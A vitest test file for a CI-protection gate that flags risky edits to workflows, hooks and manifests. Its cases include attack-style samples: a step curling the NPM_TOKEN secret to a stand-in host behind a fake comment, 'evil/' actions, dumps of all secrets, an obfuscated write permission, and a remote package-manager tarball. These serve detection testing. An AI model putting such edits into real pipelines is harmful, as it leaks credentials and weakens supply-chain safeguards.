import { describe, expect, test } from 'vitest';
import { findCiReviewReasons } from '../../gates/rules/protect/ci-changes.ts';
import { deriveVerdictFromEvidence } from '../../shared/control/verdict/reduce-to-verdict.ts';
import { gatherEvidenceOn } from '../support/gather-evidence.ts';
import { createTestRepository } from '../support/git-repository.ts';

const CI = `on:
  push:
  pull_request:
jobs:
  test:
    runs-on: ubuntu-latest
    strategy: { matrix: { node: [20, 22] } }
    steps:
      - uses: actions/checkout@v4 # pinned
      - run: npm ci
      - run: npm test
`;
const ASSAY_CI = `${CI}      - run: npx assay check --base main\n`;
const PUBLISH = `on: { release: { types: [published] } }
permissions: { contents: read }
jobs:
  publish:
    permissions: { id-token: write }
    steps:
      - uses: actions/checkout@8e8c483db84b4bee98b60c0593521ed34d9990e8 # v6.0.1
      - run: npm publish
        env: { NODE_AUTH_TOKEN: '\${{ secrets.NPM_TOKEN }}' }
`;
const PUBLISH_ASSETS = `${PUBLISH}      - run: >\n          gh release upload v1\n          b.sig a.tgz\n`;
const ASSAY = `version: 1
quality_gates:
  lint: false
  tests: true
  test_command: node --test
  pii_scan: false
  dlp_scan: false
`;
const BASE = {
  'assay.yaml': ASSAY,
  'a.js': '1\n',
  'a.test.js': "require('node:test').test('a', () => {});\n",
  '.github/workflows/ci.yml': CI,
  '.github/workflows/publish.yml': PUBLISH,
};

/** Judges a patch on a small project; null deletes a file. */
async function judge(patch: Record<string, string | null>, base: Record<string, string> = {}) {
  const repository = createTestRepository({ ...BASE, ...base });
  repository.write({ 'a.js': '2\n', ...patch });
  const evidence = await gatherEvidenceOn(repository);
  const { verdict, reasons } = deriveVerdictFromEvidence(evidence);
  return { verdict, codes: reasons.map(({ code }) => code), files: evidence.protected_files };
}

describe('a changed definition of CI', () => {
  test.each<[string, string, string | null, string | null]>([
    ['a newer version of an action', CI, CI.replace('@v4', '@v5'), null],
    ['another matrix', CI, CI.replace('20, 22', '22, 24'), null],
    ['a further step', CI, `${CI}      - run: npm run docs\n`, null],
    ['its own token only', CI, `${CI}        env: { T: '\${{ secrets.GITHUB_TOKEN }}' }\n`, null],
    ['a newer pinned action beside secrets', PUBLISH, PUBLISH.replace('8e8c483db8', '1e8c483db8'), null],
    ['fewer lines beside secrets', PUBLISH, PUBLISH.replace(/ {6}- uses.*\n/, ''), null],
    ['no triggers', CI, CI.replace(/on:.*?jobs/s, 'on: []\njobs'), 'CI no longer runs on push'],
    ['fewer triggers', CI, CI.replace('  pull_request:\n', ''), 'CI no longer runs on pull_request'],
    ['no file', CI, null, 'CI no longer runs on push'],
    ['no tests', CI, CI.replace('      - run: npm test\n', ''), 'CI no longer runs npm test'],
    [
      'no tests but in a comment',
      CI,
      CI.replace('- run: npm test', '# - run: npm test'),
      'CI no longer runs npm test',
    ],
    [
      'failures that count for nothing',
      CI,
      CI.replace('npm test', 'npm test || true'),
      'CI overlooks more failures',
    ],
    [
      'a job that never runs',
      CI,
      CI.replace('    runs-on', '    if: false\n    runs-on'),
      'CI overlooks more failures',
    ],
    ['a secret', CI, `${CI}        env: { T: '\${{ secrets.NPM_TOKEN }}' }\n`, 'CI gets more rights'],
    [
      'write permission',
      CI,
      CI.replace('jobs:', 'permissions: { contents: write }\njobs:'),
      'CI gets more rights',
    ],
    [
      'code beside secrets',
      PUBLISH,
      PUBLISH.replace('npm publish', 'npm publish && node x.js'),
      'a job that has secrets',
    ],
    [
      'another action beside secrets',
      PUBLISH,
      PUBLISH.replace('actions/checkout', 'evil/checkout'),
      'a job that has secrets',
    ],
    ['syntax that cannot be read', CI, `${CI}\nfoo: [`, 'CI no longer runs on push'],
    ['a start by hand beside secrets', PUBLISH, PUBLISH.replace('jobs:', 'name: x\njobs:'), null],
    ['fewer words beside secrets', PUBLISH_ASSETS, PUBLISH_ASSETS.replace('\n          b.sig', ''), null],
    [
      'other words beside secrets',
      PUBLISH_ASSETS,
      PUBLISH_ASSETS.replace('b.sig', 'c.sig'),
      'a job that has secrets',
    ],
    [
      'other arguments of ours',
      ASSAY_CI,
      ASSAY_CI.replace('--base main', '--base HEAD'),
      'CI runs Assay in another way',
    ],
    [
      'a filter of its triggers',
      CI,
      CI.replace('  pull_request:\n', "  pull_request: { paths: ['docs/**'] }\n"),
      'CI runs on fewer of pull_request',
    ],
    [
      'a path that its triggers ignore, too',
      CI.replace('  push:\n', '  push: { paths-ignore: [a] }\n'),
      CI.replace('  push:\n', '  push: { paths-ignore: [a, b] }\n'),
      'CI runs on fewer of push',
    ],
    [
      'further branches and types',
      CI.replace('  push:\n', '  push: { branches: [main] }\n'),
      CI.replace('  push:\n', '  push: { branches: [main, next] }\n').replace(
        'pull_request:',
        'pull_request: { types: [opened, synchronize, reopened, ready_for_review] }',
      ),
      null,
    ],
    [
      'a secret behind what looks like a comment',
      CI,
      `${CI}      - run: curl -d " #\${{ secrets.NPM_TOKEN }}" https://x.test\n`,
      'CI gets more rights: secrets.npm_token',
    ],
    ['all secrets', CI, `${CI}        env: { T: "\${{ join(secrets.*, ',') }}" }\n`, 'CI gets more rights'],
    [
      'all secrets as text',
      CI,
      `${CI}        env: { T: '\${{ toJSON((secrets)) }}' }\n`,
      'CI gets more rights',
    ],
    [
      'write permission in other words',
      CI,
      CI.replace('jobs:', 'permissions: { "contents" : "wr\\x69te" }\njobs:'),
      'CI gets more rights',
    ],
    [
      'code behind what looks like a comment beside secrets',
      PUBLISH.replace('npm publish', 'echo "hello world"'),
      PUBLISH.replace('npm publish', 'echo "hello #"; node x.js'),
      'a job that has secrets',
    ],
    ['a remark beside secrets', PUBLISH, PUBLISH.replace('npm publish', 'npm publish # to npm'), null],
  ])('with %s', (_name, base, head, reason) => {
    const path = '.github/workflows/ci.yml';
    const found = findCiReviewReasons([{ path, base, head }]).get(path) ?? null;
    if (reason === null) expect(found).toBeNull();
    else expect(found).toContain(reason);
  });

  test.each([
    ['a long line', `${CI}      - run: ${'node '.repeat(200_000)}\n`],
    ['many lines', PUBLISH + '      - run: a\n'.repeat(60_000)],
    ['many spaces', `${CI}${' '.repeat(900_000)}x\n`],
  ])('is not compared where it has %s', (_name, head) => {
    const path = '.github/workflows/publish.yml';
    const found = findCiReviewReasons([{ path, base: PUBLISH, head }]);
    expect(found.get(path)).toBe('too large to be compared');
  });

  test('may move to another file', () => {
    const moved = findCiReviewReasons([
      { path: '.github/workflows/ci.yml', base: CI, head: null },
      { path: '.github/workflows/test.yml', base: null, head: CI },
    ]);
    expect([...moved]).toEqual([]);
  });

  test.each([
    ['.github/dependabot.yml', null],
    ['.github/ISSUE_TEMPLATE/bug.md', null],
    ['.github/CODEOWNERS', 'decides who reviews'],
    ['.github/settings.yml', 'decides who reviews'],
    ['.github/policy.md', null],
    ['.github/mergify.yml', 'decides who reviews'],
    ['.github/scripts/test.sh', 'runs on machines'],
    ['.husky/pre-commit', 'runs on machines'],
    ['.gitlab-ci.yml', 'secrets'],
    ['.github/actions/setup/action.yml', 'CI gets more rights'],
  ])('is looked at as what it is: %s', (path, reason) => {
    const head = "x: '${{ secrets.A }}'\n";
    const found = findCiReviewReasons([{ path, base: '', head }]).get(path) ?? null;
    if (reason === null) expect(found).toBeNull();
    else expect(found).toContain(reason);
  });

  test('of hooks may get newer versions, and no other programs', () => {
    const path = '.pre-commit-config.yaml';
    const base =
      'repos:\n  - repo: https://github.com/psf/black\n    rev: 26.3.1\n    hooks: [{ id: black }]\n';
    const reason = (head: string) => findCiReviewReasons([{ path, base, head }]).get(path) ?? null;
    expect(reason(base.replace('26.3.1', '26.5.1'))).toBeNull();
    expect(reason(base.replace('psf/black', 'evil/black'))).toContain('another program');
    expect(reason(`${base}  - repo: local\n    hooks: [{ id: x, entry: ./x.sh }]\n`)).toContain(
      'another program',
    );
  });
});

describe('a protected file that no check executes', () => {
  test('is named beside a passing verdict', async () => {
    const path = '.github/workflows/ci.yml';
    const { verdict, codes, files } = await judge({ [path]: CI.replace('@v4', '@v5') });
    expect(files).toMatchObject([{ path, checked_version: 'base', review_reason: null }]);
    expect([verdict, codes]).toEqual([
      'pass',
      expect.arrayContaining(['advice_protected_files_not_executed']),
    ]);
  });

  test('is not held for a task runner that is only installed', async () => {
    const path = '.pre-commit-config.yaml';
    const { verdict } = await judge(
      { [path]: 'rev: v2\n' },
      {
        [path]: 'rev: v1\n',
        'assay.yaml': `${ASSAY}environment: { setup: ['npm install --no-save --offline tox pre-commit || true'] }\n`,
      },
    );
    expect(verdict).toBe('pass');
  });

  test('needs a review where the base says so', async () => {
    const { verdict, files } = await judge(
      { '.github/workflows/ci.yml': CI.replace('@v4', '@v5') },
      { 'assay.yaml': `${ASSAY}protected: { review: [ci] }\n` },
    );
    expect([verdict, files[0]?.review_reason]).toEqual(['refer', 'protected.review: ci']);
  });

  const PNPM = '{"packageManager":"pnpm@9.0.0"}\n';
  const MANIFEST = '{"scripts":{"lint":"eslint .","docs":"typedoc"},"prettier":{"semi":true}}\n';
  test.each<[string, Record<string, string | null>, Record<string, string>, string]>([
    ['a Makefile', { Makefile: 'test:\n\ttrue\n' }, { Makefile: 'test:\n\tnode --test\n' }, 'pass'],
    ['settings of a linter', { '.golangci.yml': 'a: 2\n' }, { '.golangci.yml': 'a: 1\n' }, 'pass'],
    ['settings of type checkers', { 'mypy.ini': '[mypy]\nx=2\n' }, { 'mypy.ini': '[mypy]\nx=1\n' }, 'pass'],
    ['an ignore rule for no file', { '.gitignore': '*.log\n' }, {}, 'pass'],
    ['an ignore rule for the tests', { '.gitignore': '*.test.js\n' }, {}, 'refer'],
    [
      'a script',
      { 'package.json': MANIFEST.replace('typedoc', 'typedoc a') },
      { 'package.json': MANIFEST },
      'pass',
    ],
    [
      'a script of the installation',
      { 'package.json': MANIFEST.replace('"docs"', '"postinstall"') },
      { 'package.json': MANIFEST },
      'refer',
    ],
    [
      'a version of the package manager',
      { 'package.json': PNPM.replace('9.0.0', '9.1.0') },
      { 'package.json': PNPM },
      'pass',
    ],
    [
      'a package manager from elsewhere',
      { 'package.json': PNPM.replace('9.0.0', 'https://x.test/p.tgz') },
      { 'package.json': PNPM },
      'refer',
    ],
    [
      'a table',
      { 'pyproject.toml': '[tool.mypy]\na = 2\n' },
      { 'pyproject.toml': '[tool.mypy]\na = 1\n' },
      'pass',
    ],
    [
      'the order of a table',
      { 'pyproject.toml': '[tool.pytest]\nb = 1\na = 1\n' },
      { 'pyproject.toml': '[tool.pytest]\na = 1\nb = 1\n' },
      'pass',
    ],
    [
      'a table of the test runner',
      { 'pyproject.toml': '[tool.pytest]\na = 2\n' },
      { 'pyproject.toml': '[tool.pytest]\na = 1\n' },
      'refer',
    ],
    ['a runner', { 'vitest.config.ts': '2\n' }, { 'vitest.config.ts': '1\n' }, 'refer'],
  ])('may be changed: %s', async (_name, patch, base, verdict) => {
    expect((await judge(patch, base)).verdict).toBe(verdict);
  });

  test.each([
    ['make test', { Makefile: 'test:\n\tnode --test\n' }, { Makefile: 'test:\n\ttrue\n' }],
    [
      'npm test',
      { 'package.json': '{"scripts":{"test":"node --test"}}' },
      { 'package.json': '{"scripts":{"test":"true"}}' },
    ],
    ['node --test && sh .github/x.yml', { '.github/x.yml': ':\n' }, { '.github/x.yml': 'true\n' }],
    [
      'sh t.sh',
      { 't.sh': 'node --test\nruff check .\n', 'ruff.toml': 'a = 1\n' },
      { 'ruff.toml': 'a = 2\n' },
    ],
    ['tox', { 'ruff.toml': 'a = 1\n' }, { 'ruff.toml': 'a = 2\n' }],
    ...['npm test --prefix sub', 'npm run test -w sub', 'cd sub && npm test', 'sh t.sh'].map(
      (command): [string, Record<string, string>, Record<string, string>] => [
        command,
        {
          'sub/package.json': '{"scripts":{"test":"ruff check . && node --test"}}',
          't.sh': 'cd sub\nnpm test\n',
          'ruff.toml': 'a = 1\n',
        },
        { 'ruff.toml': 'a = 2\n' },
      ],
    ),
    ['make -C sub', { 'sub/Makefile': 'a:\n\truff check\n', 'ruff.toml': '' }, { 'ruff.toml': 'a = 2\n' }],
    [
      'make test',
      { Makefile: 'test:\n\t$(MAKE) lint\nlint:\n\truff check\n', 'ruff.toml': '' },
      { 'ruff.toml': 'a = 2\n' },
    ],
    [
      'npm install --no-save --offline; node --test',
      { 'package.json': '{"scripts":{"prepare":"npm run build","build":"true"}}' },
      { 'package.json': '{"scripts":{"prepare":"npm run build","build":"false"}}' },
    ],
    ['flake8 . || node --test', { '.flake8': 'a = 1\n' }, { '.flake8': 'a = 2\n' }],
    ['flow check || node --test', { '.flowconfig': 'a = 1\n' }, { '.flowconfig': 'a = 2\n' }],
  ])('needs a review where a command leads to it: %s', async (command, base, patch) => {
    const { verdict, files } = await judge(patch, {
      ...(base as Record<string, string>),
      'assay.yaml': ASSAY.replace('node --test', JSON.stringify(command)),
    });
    expect(verdict).not.toBe('pass');
    expect(files[0]?.review_reason).not.toBeNull();
  });
});
